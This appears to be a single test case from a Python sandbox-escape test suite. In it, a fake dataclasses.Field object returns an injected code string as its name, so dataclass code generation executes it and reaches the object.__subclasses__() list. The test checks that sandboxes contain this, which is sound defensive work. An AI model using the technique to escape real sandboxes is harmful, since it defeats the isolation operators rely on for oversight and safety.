# id: R17
# category: facades
# attempts: an object that lies that it is a dataclasses.Field: its name becomes the text of generated code
# entry: target(cfg)   shape: probe
# a correct sandbox must show: no ESCAPED anywhere; in restricted mode no LANG either
# expected classes: restricted: contained; process: contained; container: contained
# bounded by: none needed
from dataclasses import MISSING, dataclass, field
real = field()
leak = []
EVIL = "x = leak.append(().__class__.__base__.__subclasses__()); self.a"
class Fake:
    default, init, kw_only, repr, hash, compare, type, metadata = 1, True, False, False, False, False, int, {}
    default_factory = MISSING
    reads, turn = 0, 0
    def __getattribute__(self, name):
        if name == "__class__":
            return type(real)
        if name == "name":
            Fake.reads += 1
            return EVIL if Fake.reads == Fake.turn else "a"
        return object.__getattribute__(self, name)
    def __setattr__(self, name, value):
        if name == "_field_type":
            object.__setattr__(self, name, value)
def target(cfg):
    for turn in range(1, 40):
        Fake.reads, Fake.turn = 0, turn
        try:
            @dataclass(repr=False, eq=False, match_args=False)
            class Record:
                a: int = Fake()
            Record()
        except (SyntaxError, KeyError, AttributeError, NameError):
            continue
        if leak:
            return "LANG code of a text: " + str(leak[0][:2])
    return "BLOCKED"
